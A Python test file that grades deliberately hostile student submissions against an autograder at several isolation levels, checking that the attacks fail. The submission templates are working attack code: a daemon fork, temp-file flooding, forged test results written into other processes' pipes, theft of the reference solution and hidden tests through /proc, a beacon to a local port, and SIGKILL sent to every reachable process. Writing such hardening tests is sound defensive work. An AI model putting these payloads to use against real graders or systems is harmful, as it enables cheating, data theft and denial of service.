"""Attacks on the grader, graded as real submissions at each isolation level this machine
offers, through the real command line (`python -m autograder grade-all` and `grade`).

a_vandal  ex01: the skeleton, plus, at import: a double-forked daemon, 50 MB files in
          /tmp and /dev/shm, pytest's temp folder of the grader's user made first, and
          "passed" records for every public ex02 test written into every pipe of every
          process it can open (/proc/PID/fd) but its own. It must score 0, normally.
b_thief   ex01: the reference (so: the next submission, unaffected). ex02: no work; at
          import it looks for the grader (the repository's path, known on Gradescope as
          /autograder/source; its ancestors' command lines and working folders; the
          interpreter's folder), for another submission of the batch (a .donor folder
          beside it holds the ex02 reference), logs and results; runs the reference it
          finds; puts what it read into its error messages; sends a token to a port the
          test listens on.
kill      ex01: the skeleton, which at import kills its parent and every process it may.

Levels: sandbox (bubblewrap, as this runner's user), user (root grader, student code as a
user of its own, files deployed as docs/instructors.md says) and same-user (a grader that runs as
an unprivileged uid, as on a laptop). The last two run in a private mount namespace that
makes the interpreter reachable for other uids and adds their passwd entries, without
touching this machine. A documented gap is an xfail(strict=True): closing it, or opening
another, fails here.
"""

from __future__ import annotations

import ast
import json
import os
import random
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from autograder.batch import submission_dir
from autograder.sandbox import isolation

# These tests grade whole submissions through the real path; on a loaded machine a
# module's first test (which grades them all) takes minutes, not pytest's default 300 s.
pytestmark = pytest.mark.timeout(1800)

REPO = Path(__file__).resolve().parents[2]
EX1, EX2 = "ex_01_basic_rnn.py", "ex_02_time_series_prediction.py"
EX2_PUBLIC = "test_ex02_time_series_prediction.py"
# The user level's student user and the same-user level's grader (as on a laptop), with
# passwd entries in a private mount namespace only. Their uids are drawn per test run: the
# attacks kill every process of those uids, which must be no other run's on this machine.
_UID = random.SystemRandom().randrange(300_000, 900_000, 2)
STUDENT = ("rnnstudent", _UID)
GRADER = ("rnngrader", _UID + 1)
SECRET_FILES = ("solutions", "tests/hidden", "tests/fixtures", "tests/project")

# (attack, level) -> why it is not blocked there (docs/instructors.md, "Isolation levels")
GAPS = {
    ("steal", "same-user"): "student code runs as the grader's user and reads its files",
    ("leak", "same-user"): "student code runs as the grader's user and reads its files",
    ("network", "user"): "only the sandbox has a network namespace",
    ("network", "same-user"): "only the sandbox has a network namespace",
    ("temp files", "same-user"): "the grader cannot tell student files in /tmp from its "
                                 "user's own",
}

VANDAL = '''

# --- the attack, at import ------------------------------------------------------------
import json as _json
import os as _os

_TOKEN = {token!r}


def _daemon():
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv("/bin/sleep", ["sleep", "3600." + _TOKEN])
        _os._exit(0)
    _os.wait()


def _fill_temp():
    for folder in ("/tmp", "/dev/shm"):
        try:
            with open(f"{{folder}}/vandal-{{_TOKEN}}", "wb") as fh:
                fh.write(b"x" * (50 * 2**20))
        except OSError:
            pass
    for user in ("root", "nobody", {grader!r}):
        try:
            _os.makedirs(f"/tmp/pytest-of-{{user}}/vandal-{{_TOKEN}}")
        except OSError:
            pass


def _forge():
    lines = "".join(_json.dumps({{"nodeid": n, "status": "passed", "output": ""}}) + "\\n"
                    for n in {nodeids!r})
    signed = "".join("0" * 64 + " " + line for line in lines.splitlines(True))
    own = set()  # its own channel to the grader (its children hold copies): not that one
    for fd in _os.listdir("/proc/self/fd"):
        try:
            own.add(_os.readlink(f"/proc/self/fd/{{fd}}"))
        except OSError:
            pass
    for pid in _os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == _os.getpid():
            continue
        try:
            fds = _os.listdir(f"/proc/{{pid}}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                target = _os.readlink(f"/proc/{{pid}}/fd/{{fd}}")
                if not target.startswith("pipe:") or target in own:
                    continue
                with open(f"/proc/{{pid}}/fd/{{fd}}", "w") as fh:
                    fh.write(lines + signed)
            except OSError:
                pass


_daemon()
_fill_temp()
_forge()
'''

THIEF = '''"""Exercise 2, not done: takes what it can find instead."""
import glob
import os
import socket
import sys

KNOWN = {known!r}
TOKEN = {token!r}


def _ancestors():
    pid, seen = os.getpid(), []
    while pid > 1 and len(seen) < 30:
        try:
            with open(f"/proc/{{pid}}/stat") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        seen.append(pid)
    return seen


def _places():
    found = [KNOWN, os.path.dirname(sys.prefix), os.getcwd()]
    for pid in _ancestors():  # the grader, the batch, whoever started them
        for link in ("cwd", "root"):
            try:
                found.append(os.readlink(f"/proc/{{pid}}/{{link}}"))
            except OSError:
                pass
        try:
            with open(f"/proc/{{pid}}/cmdline", "rb") as fh:
                found += [a.decode("utf-8", "replace") for a in fh.read().split(b"\\0")
                          if a.startswith(b"/")]
        except OSError:
            pass
    out = []
    for p in found:
        while p and p != "/" and p not in out:
            out.append(p)
            p = os.path.dirname(p)
    return out


def _read(path):
    try:
        with open(path, encoding="utf-8") as fh:
            return fh.read()
    except (OSError, UnicodeDecodeError):
        return None


STOLEN, LEAKED = None, []
for place in _places():
    for pattern in ("solutions/{ex2}", "*/{ex2}", ".*/{ex2}"):
        for path in glob.glob(os.path.join(place, pattern)):
            text = _read(path)
            if STOLEN is None and text and text != _read(__file__):  # not a copy of itself
                STOLEN = path
    for pattern in ("tests/hidden/test_ex02*.py", "logs/*.log", "*/grader.log",
                    "*/results.json"):
        for path in glob.glob(os.path.join(place, pattern)):
            text = _read(path)
            if text:
                LEAKED.append(path + ": " + text[:600])

try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as conn:
        conn.sendall(TOKEN.encode())
except OSError:
    pass



def _leak(*args, **kwargs):
    raise NotImplementedError("LEAKED<<" + " | ".join(LEAKED)[:3000] + ">>")


if STOLEN:
    exec(compile(_read(STOLEN), STOLEN, "exec"))  # the reference's functions, as its own
    if LEAKED:
        make_windows = _leak  # one public test's message shows what it read
else:
    def __getattr__(name):
        return _leak
'''

KILL = '''

# --- the attack, at import ------------------------------------------------------------
import os as _os
import signal as _signal

for _target in (_os.getppid(), -1):
    try:
        _os.kill(_target, _signal.SIGKILL)
    except OSError:
        pass
'''


# ---------------------------------------------------------------------------------------
# Where the grader runs
# ---------------------------------------------------------------------------------------


def _blocker(path: str) -> str | None:
    """The first folder on the way to `path`, `path` included, that other users cannot pass
    through."""
    for parent in [*reversed(Path(path).parents), Path(path)]:
        if parent != Path("/") and not parent.stat().st_mode & stat.S_IXOTH:
            return str(parent)
    return None


def _exposed() -> dict[str, list[str]]:
    """Each blocking folder, with the paths below it to bring back once a tmpfs (mode 0755)
    covers it. Where the blocker is itself needed (a clone made in `mktemp -d`, mode 0700),
    everything in it comes back."""
    exposed: dict[str, list[str]] = {}
    for path in (os.path.realpath(sys.base_prefix), os.path.realpath(sys.prefix), str(REPO)):
        blocker = _blocker(path)
        if blocker and path not in exposed.setdefault(blocker, []):
            exposed[blocker].append(path)
    for blocker, paths in exposed.items():
        if blocker in paths:
            exposed[blocker] = [os.path.join(blocker, name) for name in os.listdir(blocker)]
    return exposed


def _bring_back(path: str, spot: Path) -> tuple[list[str], list[str]]:
    """Shell lines that keep `path` at `spot` before the tmpfs and put it back after."""
    if os.path.islink(path):
        return [], [f"ln -s '{os.readlink(path)}' '{path}'"]
    make = f"mkdir -p '{spot}'" if os.path.isdir(path) else f"touch '{spot}'"
    remake = f"mkdir -p '{path}'" if os.path.isdir(path) else \
        f"mkdir -p '{os.path.dirname(path)}' && touch '{path}'"
    return [make, f"mount --bind '{path}' '{spot}'"], [remake, f"mount --move '{spot}' '{path}'"]


def _namespace_script(work: Path, deploy: bool) -> str:
    """Shell run as root in a private mount namespace before the grader: the interpreter
    and the repository reachable for other uids, passwd entries for the test's users,
    and (`deploy`) the deployment of docs/instructors.md: secrets root's only, no .git."""
    lines = ["set -eu", f"mkdir -p '{work / 'keep'}'"]
    for i, (blocker, paths) in enumerate(_exposed().items()):
        steps = [_bring_back(path, work / "keep" / f"{i}-{j}") for j, path in enumerate(paths)]
        lines += [line for keep, _ in steps for line in keep]
        lines.append(f"mount -t tmpfs -o mode=0755 tmpfs '{blocker}'")
        lines += [line for _, back in steps for line in back]
    for table in ("passwd", "group"):
        lines.append(f"cp /etc/{table} '{work}/{table}'")
        for name, uid in (STUDENT, GRADER):
            entry = f"{name}:x:{uid}:{uid}::/nonexistent:/usr/sbin/nologin" \
                if table == "passwd" else f"{name}:x:{uid}:"
            lines.append(f"echo '{entry}' >> '{work}/{table}'")
        lines.append(f"mount --bind '{work}/{table}' /etc/{table}")
    if deploy:
        for name in SECRET_FILES:
            if (REPO / name).is_dir():
                copy = work / "private" / name
                lines += [f"mkdir -p '{copy}'", f"cp -a '{REPO / name}/.' '{copy}/'",
                          f"chmod 0700 '{copy}'", f"mount --bind '{copy}' '{REPO / name}'"]
        for name in (".git", "results"):  # history; earlier grading's results and logs
            path = REPO / name
            if path.is_dir():
                lines.append(f"mount -t tmpfs -o mode=0700 tmpfs '{path}'")
            elif path.exists():
                lines.append(f"mount --bind /dev/null '{path}'")
    lines.append('exec "$@"')
    return "\n".join(lines)


class Level:
    """How to run the grader at one level: environment, user, wrapping namespace."""

    def __init__(self, name: str, root: Path):
        self.name, self.root = name, root
        self.env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LANG": "C.UTF-8",
                    "PYTHONDONTWRITEBYTECODE": "1", "AUTOGRADER_ISOLATION": name,
                    "HOME": str(root / "home")}
        self.prefix: list[str] = []
        (root / "home").mkdir(parents=True)
        if os.geteuid() != 0:
            return
        if name == "user":
            self.env["AUTOGRADER_STUDENT_USER"] = STUDENT[0]
        if name in ("user", "same-user"):
            work = Path(tempfile.mkdtemp(prefix="ns-", dir=root))
            script = _namespace_script(work, deploy=name == "user")
            self.prefix = ["unshare", "--mount", "--propagation", "private", "--",
                           "sh", "-c", script, "sh"]
        if name == "same-user":
            os.chmod(root, 0o755)
            os.chown(root / "home", GRADER[1], GRADER[1])
            self.prefix += ["setpriv", f"--reuid={GRADER[1]}", f"--regid={GRADER[1]}",
                            "--clear-groups", "--"]

    def folder(self, name: str) -> Path:
        """A folder the grader at this level may write."""
        path = self.root / name
        path.mkdir(parents=True, exist_ok=True)
        if os.geteuid() == 0 and self.name == "same-user":
            os.chmod(path, 0o755)
            os.chown(path, GRADER[1], GRADER[1])
        return path

    def run(self, *args: str, timeout: float = 400) -> subprocess.CompletedProcess:
        return subprocess.run([*self.prefix, sys.executable, "-m", "autograder", *args],
                              cwd=REPO, env=self.env, capture_output=True, text=True,
                              timeout=timeout)


def _level_problem(name: str) -> str | None:
    """Why this machine cannot run the attacks at `name`, or None."""
    if name == "sandbox":
        return isolation.sandbox_problem(None)
    if os.geteuid() != 0:
        return "needs root (a second uid, a private mount namespace)" if name == "user" \
            else "as this runner's own user, the kill attack would kill its whole session"
    for tool in ("unshare", "setpriv", "mount"):
        if shutil.which(tool) is None:
            return f"{tool} (util-linux) is not installed"
    probe = subprocess.run(["unshare", "--mount", "--propagation", "private", "true"],
                           capture_output=True, text=True)
    if probe.returncode != 0:
        return f"no private mount namespace here: {probe.stderr.strip()[:200]}"
    return None


def _public_nodeids(filename: str) -> list[str]:
    """What a student sees of the public tests: their names (they ship to students)."""
    path = REPO / "tests" / "public" / filename
    tree = ast.parse(path.read_text())
    return [f"tests/public/{filename}::{node.name}" for node in tree.body
            if isinstance(node, ast.FunctionDef) and node.name.startswith("test_")]


class Listener:
    """A TCP port on 127.0.0.1 that records what student code manages to send."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(100))
                except OSError:
                    self.received.append(b"")

    def close(self):
        self.stop = True
        self.thread.join(timeout=5)
        self.sock.close()


def _left_running(token: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as fh:
                    if token.encode() in fh.read():
                        found.append(int(entry))
            except OSError:
                pass
    return found


def _left_in_temp(token: str) -> list[str]:
    found = []
    for folder in ("/tmp", "/dev/shm", *(f"/tmp/{d}" for d in os.listdir("/tmp")
                                         if d.startswith("pytest-of-"))):
        try:
            found += [f"{folder}/{n}" for n in os.listdir(folder) if token in n]
        except OSError:
            pass
    return found


# ---------------------------------------------------------------------------------------
# One level: the batch, then the kill
# ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module", params=["sandbox", "user", "same-user"])
def attacked(request, tmp_path_factory):
    name = request.param
    problem = _level_problem(name)
    if problem is not None:
        pytest.skip(f"the {name} level is not available here: {problem}")
    token = str(random.randrange(10**11, 10**12))
    if os.geteuid() == 0 and name == "same-user":
        root = Path(tempfile.mkdtemp(prefix="attacks-"))  # reachable for the grader's uid
    else:
        root = tmp_path_factory.mktemp(f"attacks-{name}")
    level = Level(name, root)
    listener = Listener()
    subs = level.folder("subs")
    reference = (REPO / "solutions" / EX1).read_text()
    skeleton = (REPO / "assignments" / EX1).read_text()
    (subs / "a_vandal").mkdir()
    (subs / "a_vandal" / EX1).write_text(skeleton + VANDAL.format(
        token=token, grader=GRADER[0], nodeids=_public_nodeids(EX2_PUBLIC)))
    (subs / "b_thief").mkdir()
    (subs / "b_thief" / EX1).write_text(reference)
    (subs / "b_thief" / EX2).write_text(THIEF.format(
        known=str(REPO), token=token, port=listener.port, ex2=EX2))
    (subs / ".donor").mkdir()  # another student's work, in the batch folder, not graded
    shutil.copy(REPO / "solutions" / EX2, subs / ".donor" / EX2)
    kill = level.folder("kill")
    (kill / EX1).write_text(skeleton + KILL)
    for path in (subs, kill):
        for p in [path, *path.rglob("*")]:
            os.chmod(p, 0o755 if p.is_dir() else 0o644)
    out = level.folder("out")
    started = time.monotonic()
    batch = level.run("grade-all", str(subs), "--out", str(out), "--jobs", "1",
                      "--allow-same-user")
    seconds = time.monotonic() - started
    killed = level.run("grade", str(kill), "--out", str(out / "kill.json"), "--quiet")
    time.sleep(0.5)  # a process killed a moment ago may still be listed
    found = {
        "level": name, "batch": batch, "killed": killed, "out": out, "seconds": seconds,
        "running": _left_running(token), "temp": _left_in_temp(token),
        "network": b"".join(listener.received), "token": token,
    }
    listener.close()
    yield found
    for pid in found["running"]:
        try:
            os.kill(pid, 9)
        except ProcessLookupError:
            pass
    for path in found["temp"]:
        if os.path.isdir(path):
            shutil.rmtree(path, ignore_errors=True)
        else:
            Path(path).unlink(missing_ok=True)  # may be gone with its owner's files
    if os.geteuid() == 0 and name == "same-user":
        shutil.rmtree(root, ignore_errors=True)
        _remove_temp_files_of(GRADER[1])  # a grader killed by the attack left its own


def _remove_temp_files_of(uid: int) -> None:
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child only removes and exits
        try:
            os.setgroups([])
            os.setgid(uid)
            os.setuid(uid)
            isolation.remove_own_temp_files()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def _results(found, name) -> dict:
    path = submission_dir(found["out"], name) / "results.json"
    assert path.exists(), f"{name}: no results.json\n{found['batch'].stdout[-2000:]}" \
        f"{found['batch'].stderr[-3000:]}"
    return json.loads(path.read_text())


def _score(res, exid) -> float:
    return sum(t["score"] for t in res["tests"] if t["tags"][0] == exid)


def _gap(request, attack, level):
    reason = GAPS.get((attack, level))
    if reason is not None:
        request.applymarker(pytest.mark.xfail(strict=True, reason=f"documented: {reason}"))


def _visible(res) -> str:
    return res["output"] + "".join(t["output"] for t in res["tests"]
                                   if t["visibility"] == "visible")


def test_the_batch_ran_at_the_level_asked_for(attacked):
    assert attacked["batch"].returncode == 0, attacked["batch"].stderr[-3000:]
    assert f"isolation: {attacked['level']}" in attacked["batch"].stdout
    for name in ("a_vandal", "b_thief"):
        assert _results(attacked, name)["extra_data"]["isolation"]["level"] == \
            attacked["level"]


def test_stealing_the_reference_scores_nothing(attacked, request):
    _gap(request, "steal", attacked["level"])
    res = _results(attacked, "b_thief")
    assert _score(res, "ex02") == 0, "the thief ran a reference it found"


def test_no_hidden_test_solution_or_log_in_what_students_see(attacked, request):
    _gap(request, "leak", attacked["level"])
    res = _results(attacked, "b_thief")
    leaks = [t["output"][:300] for t in res["tests"] if "LEAKED<<" in t["output"]
             and "LEAKED<<>>" not in t["output"]]
    assert not leaks
    assert "def test_" not in _visible(res)


def test_the_next_submission_and_other_exercises_keep_their_points(attacked):
    thief = _results(attacked, "b_thief")  # graded after the vandal; ex02 is the attack
    assert _score(thief, "ex01") == 30, [t["output"][:200] for t in thief["tests"]
                                         if t["status"] != "passed" and "ex01" in t["tags"]]


def test_forged_outcome_records_never_count(attacked):
    vandal = _results(attacked, "a_vandal")
    assert vandal["score"] == 0
    # Graded as the skeleton it is: no forged record reached the outcome pipe (that
    # would fail the run closed: "could not grade").
    assert all("not implemented yet" in t["output"] for t in vandal["tests"]
               if t["tags"][0] == "ex01")


def test_nothing_student_code_started_is_left_running(attacked):
    assert not attacked["running"]


def test_nothing_is_left_in_the_shared_temp_folders(attacked, request):
    _gap(request, "temp files", attacked["level"])
    assert not attacked["temp"]


def test_no_network(attacked, request):
    _gap(request, "network", attacked["level"])
    assert attacked["token"].encode() not in attacked["network"]


def test_killing_the_grader_still_leaves_a_valid_results_json(attacked):
    kill = json.loads((attacked["out"] / "kill.json").read_text())
    assert kill["score"] == 0
    if attacked["level"] == "same-user":  # it may signal the grader: fail closed
        assert attacked["killed"].returncode != 0
        assert "did not finish" in kill["output"]
    else:
        assert attacked["killed"].returncode == 0, attacked["killed"].stderr[-2000:]
        assert all("not implemented yet" in t["output"] for t in kill["tests"]
                   if t["tags"][0] == "ex01")


def test_a_grader_that_is_not_root_gets_the_sandbox_too(tmp_path):
    """A laptop: the grader runs as an ordinary user; bubblewrap then maps it to nobody in
    a user namespace of its own. The kill attack reaches nothing outside the sandbox."""
    problem = _level_problem("same-user") or isolation.sandbox_problem(None)
    if os.geteuid() != 0 or problem is not None:
        pytest.skip(f"needs root to run a grader as another uid here: {problem or 'not root'}")
    root = Path(tempfile.mkdtemp(prefix="attacks-laptop-"))
    try:
        level = Level("same-user", root)  # the grader's uid, its namespace
        level.env["AUTOGRADER_ISOLATION"] = "auto"
        sub = level.folder("sub")
        (sub / EX1).write_text((REPO / "assignments" / EX1).read_text() + KILL)
        os.chmod(sub / EX1, 0o644)
        out = level.folder("out")
        proc = level.run("grade", str(sub), "--out", str(out / "results.json"))
        assert proc.returncode == 0, proc.stderr[-2000:]
        res = json.loads((out / "results.json").read_text())
        assert res["extra_data"]["isolation"]["level"] == "sandbox"
        assert "as nobody inside" in res["extra_data"]["isolation"]["detail"]
        assert res["score"] == 0
        assert all("not implemented yet" in t["output"] for t in res["tests"]
                   if t["tags"][0] == "ex01")
    finally:
        shutil.rmtree(root, ignore_errors=True)
        _remove_temp_files_of(GRADER[1])


# ---------------------------------------------------------------------------------------
# What each level costs: python -m tests.project.test_isolation_attacks [REPEATS]
# ---------------------------------------------------------------------------------------


def bench(repeats: int = 3) -> list[dict]:
    """Seconds and peak memory (the summed RSS of the grader's whole process tree) of
    grading the reference at each level this machine offers, runs interleaved so that
    the machine's load falls on every level alike. "baseline" is how the grader ran
    before the levels existed: student code as the (root) grader's own user."""
    from tools.bench import measure

    levels, rows = {}, []
    for name in ("sandbox", "user", "same-user", "baseline"):
        problem = None if name == "baseline" else _level_problem(name)
        if problem is not None:
            rows.append({"level": name, "not_available": problem})
            continue
        level = Level("same-user" if name == "baseline" else name,
                      Path(tempfile.mkdtemp(prefix=f"bench-{name}-")))
        if name == "baseline":
            level.prefix = []
        levels[name] = (level, level.folder("out"), [])
    for i in range(repeats):
        for _name, (level, out, runs) in levels.items():
            runs.append(measure([*level.prefix, sys.executable, "-m", "autograder", "grade",
                                 "solutions", "--out", str(out / f"{i}.json"), "--quiet"],
                                env=level.env))
    for name, (level, out, runs) in levels.items():
        results = json.loads((out / "0.json").read_text())
        seconds = sorted(r["seconds"] for r in runs)
        rows.append({"level": name, "seconds": seconds, "median_s": seconds[len(seconds) // 2],
                     "peak_tree_mb": max(r["peak_tree_mb"] for r in runs),
                     "score": results["score"],
                     "tests": len(results["tests"]),
                     "ran_at": results.get("extra_data", {}).get("isolation", {}).get("level")})
        shutil.rmtree(level.root, ignore_errors=True)
    return rows


if __name__ == "__main__":
    for row in bench(int(sys.argv[1]) if len(sys.argv) > 1 else 3):
        print(json.dumps(row))
